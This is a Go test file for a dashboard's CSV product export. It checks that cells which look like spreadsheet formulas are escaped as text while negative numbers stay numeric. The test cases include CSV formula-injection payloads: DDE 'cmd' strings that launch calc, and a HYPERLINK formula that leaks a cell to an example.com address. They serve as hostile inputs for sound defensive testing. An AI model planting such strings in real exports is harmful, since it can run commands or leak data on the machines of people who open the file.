package web

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/sqpdash/sqpdash/internal/sqp"
)

func TestSpreadsheetSafe(t *testing.T) {
	for _, tc := range []struct {
		name, in, want string
	}{
		{"plain text stays", "Garden Hose 50 ft", "Garden Hose 50 ft"},
		{"empty stays", "", ""},
		{"negative number stays a number", "-5.2", "-5.2"},
		{"signed number stays a number", "+12", "+12"},
		{"exponent stays a number", "-1.5e-07", "-1.5e-07"},
		{"integer stays", "42", "42"},
		{"DDE command is text", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"hyperlink formula is text", `=HYPERLINK("http://example.com","x")`, `'=HYPERLINK("http://example.com","x")`},
		{"at sign is text", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"plus formula is text", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus formula is text", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"leading tab is text", "\t=1+1", "'\t=1+1"},
		{"leading carriage return is text", "\r=1+1", "'\r=1+1"},
		{"formula later in the text stays", "Hose =1+1", "Hose =1+1"},
		{"hex float is not a number", "-0x1p-2", "'-0x1p-2"},
		{"infinity is not a number", "-Inf", "'-Inf"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := spreadsheetSafe(tc.in); got != tc.want {
				t.Errorf("spreadsheetSafe(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// TestExportNeutralisesFormulas: product titles that a spreadsheet would execute come out of the
// product export as text, and the negative changes beside them stay numbers.
func TestExportNeutralisesFormulas(t *testing.T) {
	f := newFixture(t)
	titles := map[string]string{
		asinA: "=cmd|' /C calc'!A0",
		asinB: `=HYPERLINK("http://example.com/?leak="&A1,"Blue Widget")`,
		asinC: "@SUM(1+1)*cmd|' /C calc'!A0",
	}
	var mappings []sqp.BrandMapping
	for asin, title := range titles {
		mappings = append(mappings, sqp.BrandMapping{ASIN: asin, Brand: brandMain, ProductTitle: title, Active: true})
	}
	if _, err := f.db.ImportBrandMappings(context.Background(), mappings); err != nil {
		t.Fatal(err)
	}
	// export returns the header and the rows of the product export for query.
	export := func(query string) ([]string, [][]string) {
		t.Helper()
		body, _ := f.body("/brands/"+f.brandID+"/products.csv?"+query, http.StatusOK, nil)
		recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return recs[0], recs[1:]
	}
	t.Run("formula titles come out as text", func(t *testing.T) {
		seen := 0
		_, rows := export("")
		for _, rec := range rows {
			if title, ok := titles[rec[0]]; ok {
				seen++
				if rec[1] != "'"+title {
					t.Errorf("%s: title cell %q, want %q", rec[0], rec[1], "'"+title)
				}
			}
		}
		if seen != len(titles) {
			t.Errorf("%d of the %d products with formula titles exported", seen, len(titles))
		}
	})
	t.Run("negative changes stay numbers", func(t *testing.T) {
		// The older half against the newer: the garden hose has grown since, so its changes are negative.
		query := url.Values{"preset": {"custom"},
			"from": {weekStart(25).Format(dateLayout)}, "to": {weekStart(13).AddDate(0, 0, 6).Format(dateLayout)},
			"cmp": {"custom"}, "cmp_from": {weekStart(12).Format(dateLayout)}, "cmp_to": {weekStart(0).AddDate(0, 0, 6).Format(dateLayout)}}
		metric := map[string]bool{}
		for _, name := range metricHeader(true) {
			metric[name] = true
		}
		header, rows := export(query.Encode())
		negatives := 0
		for _, rec := range rows {
			for i, cell := range rec {
				if !metric[header[i]] {
					continue
				}
				if _, err := strconv.ParseFloat(cell, 64); cell != "" && err != nil {
					t.Errorf("%s: %s cell %q is not a number", rec[0], header[i], cell)
				}
				if strings.HasPrefix(cell, "-") {
					negatives++
				}
			}
		}
		if negatives == 0 {
			t.Error("no negative change in the export")
		}
	})
}
